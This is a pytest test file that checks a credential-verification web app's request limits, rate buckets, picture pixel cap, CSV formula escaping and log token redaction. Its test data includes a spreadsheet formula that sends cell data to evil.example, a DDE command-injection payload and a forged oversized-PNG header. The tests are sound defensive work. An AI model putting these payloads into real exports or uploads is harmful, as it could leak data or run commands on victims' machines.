"""Bounded work per anonymous request, and what leaves the server: a presentation carries at most ten credentials,
a request's fetches share one time budget, each address has a rate of verifications, a scanned picture has a
pixel cap, CSV exports cannot carry formulas, tokens never reach the logs, and JSON routes refuse in JSON."""

from __future__ import annotations

import csv
import io
import json
import logging
import struct
import time
import uuid
import zlib
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from PIL import Image
from sqlalchemy.orm import Session

from microcred import csvfiles
from microcred.accounts import service as accounts
from microcred.accounts.principal import Actor
from microcred.config import Settings
from microcred.issuing import batch
from microcred.skills import cohorts
from microcred.store import Database
from microcred.trust import TrustError
from microcred.verify import checks
from microcred.verify.pages import MAX_PICTURE_PIXELS, qr_link
from microcred.web.app import create_app
from microcred.web.errors import install_log_redaction
from microcred.web.security import RateLimit, client_key
from tests.conftest import World, csrf_from
from tests.verify.test_fetch import Site, fetcher, publish_issuer, site  # noqa: F401 (site is a fixture)


@pytest.fixture
def custom(settings: Settings, database: Database) -> Iterator[Any]:
    """A client of an app built with some settings changed."""
    made: list[TestClient] = []

    def client(**changes: Any) -> TestClient:
        test_client = TestClient(create_app(settings.model_copy(update=changes), database))
        made.append(test_client.__enter__())
        return test_client

    yield client
    for test_client in made:
        test_client.__exit__(None, None, None)


def presentation(credentials: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "@context": ["https://www.w3.org/ns/credentials/v2"],
        "type": ["VerifiablePresentation"],
        "verifiableCredential": credentials,
    }


# At most ten credentials in a presentation -------------------------------------------------------------------


def test_a_presentation_of_eleven_credentials_is_refused_before_any_is_checked(client: TestClient) -> None:
    assert checks.MAX_PRESENTED == 10
    stuffed = {"@context": ["https://www.w3.org/ns/credentials/v2"], "type": ["VerifiableCredential"], "x": "y" * 1000}
    started = time.monotonic()
    answer = client.post("/presentations/verify", json={"verifiablePresentation": presentation([stuffed] * 11)})
    assert answer.status_code == 400 and answer.json()["verified"] is False
    assert "carries 11 credentials: at most 10 are verified in one presentation" in answer.json()["errors"][0]
    assert answer.json()["credentialResults"] == []
    assert time.monotonic() - started < 1.0
    ten = client.post("/presentations/verify", json={"verifiablePresentation": presentation([stuffed] * 10)})
    assert len(ten.json()["credentialResults"]) == 10  # ten are checked (and fail, being unsigned)


# One time budget for a request's fetches ---------------------------------------------------------------------


def test_slow_status_lists_cannot_hold_a_verification_longer_than_its_budget(
    custom: Any,
    site: Site,  # noqa: F811 (the fixture)
) -> None:
    """Ten credentials, each pointing at its own status list that answers after 1.5 s (under the 3 s deadline
    of one fetch): without a budget the request would take 15 s; with 1 s it ends after about 1 s."""
    client = custom(fetch=True, fetch_budget_seconds=1.0)
    client.app.state.fetcher = fetcher(site)  # may reach the loopback site
    credentials, lists = [], []
    for index in range(10):
        issuer = publish_issuer(site, f"slow{index}", revoked=99)
        lists.append(f"/{issuer.path}/lists/1")
        site.pages[lists[-1]] = (*site.pages[lists[-1]][:2], 1.5)
        credentials.append(issuer.credential(index))
    started = time.monotonic()
    answer = client.post("/presentations/verify", json={"verifiablePresentation": presentation(credentials)})
    assert time.monotonic() - started < 1.8
    assert answer.status_code == 400 and answer.json()["verified"] is False
    assert sum(site.asked[path] for path in lists) == 1  # once the budget was spent, nothing more was fetched
    said = json.dumps(answer.json())
    assert "time budget of 1 s for fetching from other sites was spent" in said, said[:3000]


# A rate of verifications per address ------------------------------------------------------------------------


def test_verifications_beyond_the_rate_get_429_with_retry_after(custom: Any, app: FastAPI) -> None:
    client = custom(verify_rate_per_minute=2)
    body = {"verifiableCredential": {"type": ["VerifiableCredential"]}}
    assert [client.post("/credentials/verify", json=body).status_code for _ in range(2)] == [400, 400]
    refused = client.post("/credentials/verify", json=body)
    assert refused.status_code == 429 and refused.headers["content-type"] == "application/json"
    assert int(refused.headers["retry-after"]) >= 1
    assert refused.json()["error"] == "too_many_verifications"
    assert "at most 2 a minute" in refused.json()["detail"]
    presentation_refused = client.post("/presentations/verify", json={"verifiablePresentation": presentation([])})
    assert presentation_refused.status_code == 429  # one bucket for every verification from the address

    page = client.get(f"/verify/{uuid.uuid4()}")  # the verify page of an issued credential
    assert page.status_code == 429 and page.headers["content-type"].startswith("text/html")
    assert "Too many verifications from your address" in page.text and page.headers["retry-after"]
    assert client.get(f"/share/{'x' * 30}").status_code == 429
    assert client.get("/verify").status_code == 200  # the form itself costs nothing

    other_address = TestClient(client.app, client=("203.0.113.9", 40000))
    assert other_address.post("/credentials/verify", json=body).status_code == 400


def test_the_scanner_has_its_own_larger_bucket_and_answers_json(custom: Any) -> None:
    client = custom(verify_rate_per_minute=1)
    csrf = {"x-csrf-token": csrf_from(client.get("/verify").text)}
    picture = {"picture": ("f.png", b"nope", "image/png")}
    statuses = [client.post("/verify/scan", files=picture, headers=csrf) for _ in range(5)]
    assert [s.status_code for s in statuses] == [422, 422, 422, 422, 429]
    assert statuses[-1].json()["error"] == "too_many_verifications" and statuses[-1].headers["retry-after"]


def test_a_thousand_addresses_of_one_ipv6_64_share_one_bucket(custom: Any) -> None:
    """The attack: a client with a /64 had 2^64 buckets, one per address it rotated through."""
    limit = RateLimit(2)
    waits = [limit.wait(f"2001:db8:1:2::{i:x}") for i in range(1000)]
    assert waits[:2] == [0, 0] and set(waits[2:]) == {30}
    assert limit.wait("2001:db8:1:3::1") == 0  # the next /64 is another client
    assert client_key("::ffff:198.51.100.7") == client_key("198.51.100.7") == "198.51.100.7"
    assert client_key("2001:db8:1:2:ffff::1%eth0") == "2001:db8:1:2::/64" and client_key("testclient") == "testclient"

    client = custom(verify_rate_per_minute=1)
    body = {"verifiableCredential": {"type": ["VerifiableCredential"]}}
    first, second = (TestClient(client.app, client=(f"2001:db8:5:6::{i}", 40000)) for i in (1, 2))
    assert first.post("/credentials/verify", json=body).status_code == 400
    assert second.post("/credentials/verify", json=body).status_code == 429


def test_clients_passing_through_cannot_empty_the_table_of_a_spent_bucket() -> None:
    """Rotating through more /64s than the table holds evicts full buckets (nothing is lost), never a spent one."""
    limit = RateLimit(2)
    assert [limit.wait("198.51.100.7") for _ in range(3)] == [0, 0, 30]
    for network in range(3 * RateLimit.MAX_CLIENTS):
        assert limit.wait(f"2001:db8:{network >> 16:x}:{network & 0xFFFF:x}::1") == 0
    assert limit.wait("198.51.100.7") > 0  # still spent (less a little refill over the rotation's seconds)
    assert len(limit._buckets) <= RateLimit.MAX_CLIENTS


# A pixel cap on scanned pictures ----------------------------------------------------------------------------


def png_header(width: int, height: int) -> bytes:
    """A PNG that claims a size: the header is read before anything is decoded, so this is all an attacker sends."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")
    )


def test_only_the_picture_formats_cameras_make_are_decoded() -> None:
    """A TIFF or an icon is refused by name before any decoder of those formats runs (a corrupt ICNS made
    Pillow's PNG decoder raise SyntaxError: a 500)."""
    for kind in ("TIFF", "ICNS", "BMP"):
        picture = io.BytesIO()
        Image.new("RGB", (64, 64)).save(picture, kind)
        with pytest.raises(TrustError, match=r"not an image microcred can read \(PNG, JPEG, WebP or GIF\)"):
            qr_link(picture.getvalue())


def test_a_40_megapixel_picture_is_refused_before_it_is_decoded(client: TestClient) -> None:
    picture = io.BytesIO()
    Image.new("1", (8000, 5000)).save(picture, "PNG")  # a real 40-megapixel PNG, small once compressed
    csrf = {"x-csrf-token": csrf_from(client.get("/verify").text)}
    started = time.monotonic()
    answer = client.post("/verify/scan", files={"picture": ("big.png", picture.getvalue(), "image/png")}, headers=csrf)
    assert answer.status_code == 413 and answer.json()["error"] == "picture_too_large"
    assert "more than 16 megapixels" in answer.json()["detail"]
    assert time.monotonic() - started < 1.0
    assert MAX_PICTURE_PIXELS == 16_000_000
    for width, height in ((5000, 4000), (100_000, 100_000)):  # over the cap, and a bomb Pillow itself refuses
        with pytest.raises(Exception, match="more than 16 megapixels"):
            qr_link(png_header(width, height))


# CSV exports carry no formulas ------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?leak="&B2,"Click")'


def test_a_formula_in_a_learners_name_comes_out_of_the_cohort_export_as_text(db: Session, world: World) -> None:
    educator = accounts.user_by_email(db, "educator@a.example")
    learner = accounts.user_by_email(db, "learner@a.example")
    assert educator is not None and learner is not None
    organisation = world.orgs["a"]
    found = cohorts.create_cohort(db, Actor.person(educator), db.merge(organisation), name="Evening group")
    learner.display_name = FORMULA
    db.flush()
    cohorts.join_cohort(db, learner, found.access_code, share_skills=True)
    db.flush()
    rows = list(csv.DictReader(io.StringIO(cohorts.export_profiles_summary(db, found))))
    assert [row["name"] for row in rows] == ["'" + FORMULA]


def test_a_formula_in_a_batch_key_comes_out_of_result_csv_as_text() -> None:
    outcomes = [
        batch.Outcome(2, FORMULA, "failed", None, "+cmd|' /C calc'!A0"),
        batch.Outcome(3, "-2+3", "failed", None, "@SUM(1+1)"),
        batch.Outcome(4, "\tlead", "issued", uuid.UUID(int=1), "\r=1"),
        batch.Outcome(5, "plain", "issued", uuid.UUID(int=2), ""),
    ]
    rows = list(csv.reader(io.StringIO(batch.result_csv(outcomes))))
    assert rows[1] == ["2", "'" + FORMULA, "failed", "", "'+cmd|' /C calc'!A0"]
    assert rows[2][1] == "'-2+3" and rows[2][4] == "'@SUM(1+1)"
    assert rows[3][1] == "'\tlead" and rows[3][4] == "'\r=1"
    assert rows[4][1] == "plain"
    assert csvfiles.cell(-5) == -5  # numbers are numbers
    for hidden in (" =1+1", "\u00a0=1+1", "\ufeff@SUM(A1)", "＝1+1"):  # behind spaces, invisible, fullwidth
        assert csvfiles.cell(hidden) == "'" + hidden


# Tokens never reach the logs --------------------------------------------------------------------------------

SHARE, JOIN, CLAIM, SETUP = "sHaReToKeN_0123456789abc", "JOINCODE42", "cLaImToKeN-9876543210xyz", "SeTuPtOkEn_5555"


def test_bearer_tokens_never_reach_the_logs(caplog: pytest.LogCaptureFixture) -> None:
    install_log_redaction()
    access = logging.getLogger("uvicorn.access")
    ours = logging.getLogger("microcred.issuing.runs")  # any logger of ours, not only those with a filter
    lines = [
        f"/share/{SHARE}",
        f"/share/{SHARE}/credential.json",
        f"/join/{JOIN}",
        f"/join?code={JOIN}",
        f"/claim/{CLAIM}/credential.pdf",
        f"/account/setup/{SETUP}",
        f"/login?next=%2Fshare%2F{SHARE}%2Ffeedback",
        f"/login?next=/claim/{CLAIM}",
        f"/account/setup?token={SETUP}",
        f"/login?next=%252Fshare%252F{SHARE}",  # encoded twice
        f"/%73hare/{SHARE}",  # an encoded letter
        f"/Share/{SHARE}",  # another case
        f"//share//{SHARE}",  # repeated slashes
    ]
    with caplog.at_level(logging.INFO):
        for path in lines:
            access.info('%s - "%s %s HTTP/%s" %d', "127.0.0.1:5000", "GET", path, "1.1", 200)
            ours.warning("opened %(path)s", {"path": path})
            ours.info(f"plain message about {path}")
    text = caplog.text
    assert text.count("[redacted]") == 3 * len(lines)
    for token in (SHARE, JOIN, CLAIM, SETUP):
        assert token not in text
    assert "/join/sign-up" in logging.Formatter().format(
        logging.getLogger("x").makeRecord("x", logging.INFO, "f", 1, "%s", ("/join/sign-up",), None)
    )


# JSON routes refuse in JSON ----------------------------------------------------------------------------------


def test_an_oversized_body_on_a_json_route_gets_413_in_json(custom: Any) -> None:
    client = custom(max_body_bytes=1000)
    big = {"verifiableCredential": {"name": "x" * 2000}}
    for path in ("/credentials/verify", "/presentations/verify", "/api/registry/import", "/verify/scan"):
        answer = client.post(path, json=big)
        assert answer.status_code == 413 and answer.headers["content-type"] == "application/json", path
        assert answer.json() == {
            "error": "request_too_large",
            "detail": "The request body is larger than the 1,000 bytes allowed.",
        }
    page = client.post("/verify", data={"document": "x" * 2000})
    assert page.status_code == 413 and page.headers["content-type"].startswith("text/html")
